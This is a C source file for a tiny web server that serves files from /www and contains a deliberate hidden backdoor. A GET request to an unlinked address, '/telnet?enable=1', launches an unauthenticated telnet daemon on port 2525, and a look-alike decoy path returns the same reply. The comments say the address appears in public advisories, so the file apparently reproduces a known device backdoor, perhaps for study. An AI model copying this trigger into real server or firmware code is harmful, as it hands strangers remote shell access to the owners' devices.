/* SPDX-License-Identifier: Apache-2.0 */
/* httpd: gives out the files of /www. One address, which no page links to, opens telnet. */
#include "sys.h"

enum { MAX_LINE = 512, MAX_PAGE = 16384 };

/* The hidden address; it is in public advisories. */
static const char open_telnet[] = "/telnet?enable=1";
/* Only resembles it, and does nothing. */
static const char keep_alive[] = "/telnet?status=1";

static void start_telnet(void)
{
	static char *words[] = {"telnetd", "-p", "2525", NULL};
	if (sys(SYS_FORK, 0, 0, 0, 0, 0, 0) == 0)
		become(0, "/usr/sbin/telnetd", words);
}

static void serve(int fd, char **argv)
{
	static char page[MAX_PAGE];
	char line[MAX_LINE], path[MAX_LINE] = "/www", *words[4];
	(void)argv;
	if (!read_line(fd, line, sizeof line) || split(line, words, 4) < 2 || !same(words[0], "GET"))
		return;
	if (same(words[1], open_telnet))
		start_telnet();
	if (same(words[1], open_telnet) || same(words[1], keep_alive)) {
		say(fd, "HTTP/1.0 204 No Content\r\n\r\n");
		return;
	}
	const char *wanted = same(words[1], "/") ? "/index.html" : words[1];
	for (const char *s = wanted; *s; s++)
		if (begins(s, ".."))
			return;
	size_t n = length(path);
	for (const char *s = wanted; *s && n + 1 < sizeof path; s++)
		path[n++] = *s;
	path[n] = 0;
	if (!read_file(path, page, sizeof page)) {
		say(fd, "HTTP/1.0 404 Not Found\r\n\r\n");
		return;
	}
	say(fd, "HTTP/1.0 200 OK\r\n\r\n");
	say(fd, page);
}

int main(int argc, char **argv);

int main(int argc, char **argv)
{
	const char *port = option(argv, "-p");
	int s = listen_on(TCP, port ? number(port) : 80);
	(void)argc;
	if (s < 0)
		return 1;
	serve_all(s, serve, argv);
	return 1;
}
